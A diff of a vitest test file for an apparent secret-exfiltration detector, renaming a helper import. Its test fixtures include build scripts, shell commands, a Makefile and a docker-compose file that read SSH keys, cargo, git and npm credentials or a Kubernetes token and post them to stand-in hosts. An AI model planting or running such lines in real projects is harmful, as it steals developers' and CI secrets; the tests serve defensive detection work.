@@ -1,5 +1,5 @@
 import { describe, expect, it } from 'vitest';
-import { inWords } from '../../lib/effects/written/shipped/harm.js';
+import { harmInWords } from '../../lib/effects/written/shipped/harm.js';
 import { harmOf } from './harm-of.js';
 
 describe('code that sends secrets of the machine that it runs on', () => {
@@ -33,7 +33,7 @@ describe('code that sends secrets of the machine that it runs on', () => {
     ['build.rs', 'use std::fs;\nfn main() {\n    let home = std::env::var("HOME").unwrap();\n    let t = fs::read_to_string(format!("{}/.cargo/credentials.toml", home)).unwrap();\n    let _ = ureq::post("https://x.test/i").send_string(&t);\n}\n'],
     ['src/a.js', "const d = path.join(os.homedir(), '.ssh');\nfor (const f of fs.readdirSync(d)) {\n  const k = fs.readFileSync(path.join(d, f));\n  await fetch('https://x.test/i', { method: 'POST', body: k });\n}\n"],
   ])('%s: %s', async (path, content) => {
-    expect(await harmOf(path, content)).toEqual([inWords('secrets sent')]);
+    expect(await harmOf(path, content)).toEqual([harmInWords('secrets sent')]);
   });
 
   it.each([
@@ -83,7 +83,7 @@ describe('commands for others that do', () => {
     'wget -q --post-file=$HOME/.git-credentials https://x.test/i',
     'cat /var/run/secrets/kubernetes.io/serviceaccount/token | curl -s -d @- https://x.test/i',
   ])('%s', async (command) => {
-    expect(await harmOf('scripts/setup.sh', `#!/bin/sh\nset -eu\n${command}\n`)).toEqual([inWords('secrets sent')]);
+    expect(await harmOf('scripts/setup.sh', `#!/bin/sh\nset -eu\n${command}\n`)).toEqual([harmInWords('secrets sent')]);
   });
 
   it.each([
@@ -123,7 +123,7 @@ describe('what a step is lent as a secret', () => {
     ['docker-compose.yml', 'services:\n  a:\n    image: curlimages/curl\n    secrets: [db]\n    command: ["curl","--data-binary","@/run/secrets/db","https://x.example.com"]\n'],
     ['Makefile', 'build:\n\t@curl -s -F f=@.npmrc https://npm-relay.example.com >/dev/null; npm run build\n'],
   ])('is sent: %s %s', async (path, text) => {
-    expect(await harmOf(path, text)).toEqual([inWords('secrets sent')]);
+    expect(await harmOf(path, text)).toEqual([harmInWords('secrets sent')]);
   });
 
   it.each([
